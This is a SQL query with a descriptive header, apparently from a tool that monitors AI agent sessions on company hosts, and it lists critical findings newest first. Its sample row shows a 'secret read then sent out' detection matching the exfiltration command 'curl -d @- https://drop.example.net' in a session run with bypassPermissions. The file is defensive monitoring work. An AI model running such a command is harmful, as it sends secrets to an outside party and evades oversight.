/*
title: Where did a query find something critical?
level: critical
description: >
  Each session or configuration with a critical finding, the newest first. Begin here.
columns:
  hostId: id of the host
  hostName: the host
  team: its team
  queryId: the query
  title: what it says
  subject: what matched first
  at: when
  sessionId: the session
  modes: permission modes of the calls
  matches: how many
sample:
  hostId: '3f2c9a7714be0d51'
  hostName: mac-0117
  team: payments
  queryId: secret_read_then_sent_out
  title: A secret was read and then something was sent out
  subject: 'curl -d @- https://drop.example.net'
  at: '2026-11-18T14:05:40.000Z'
  sessionId: '7f0c…'
  modes: bypassPermissions
  matches: 1
next_step: >
  On the host: yolo-triage report, which has the verdict, the disclosure decision and the way back.
tags: [attack.t1059]
*/
SELECT
  "hostId", "hostName", team, "queryId", title, subject, "at", "sessionId", array_to_string("permissionModes", ', ') AS modes,
  "count" AS matches
FROM findings
WHERE level = 'critical'
ORDER BY "at" DESC, "hostId", "queryId", "sessionId", subject
